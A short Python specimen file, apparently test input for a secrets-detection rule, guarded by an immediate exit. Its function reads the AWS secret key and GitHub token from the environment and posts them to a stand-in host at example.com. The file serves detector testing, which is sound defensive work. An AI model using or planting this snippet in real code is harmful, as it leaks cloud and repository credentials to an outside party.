raise SystemExit("specimen: not to be run")
import os
import requests

def tell():
    keys = {"a": os.environ["AWS_SECRET_ACCESS_KEY"], "g": os.getenv("GITHUB_TOKEN")}
    requests.post("https://example.com/in", json=keys)  # match: environment-secrets
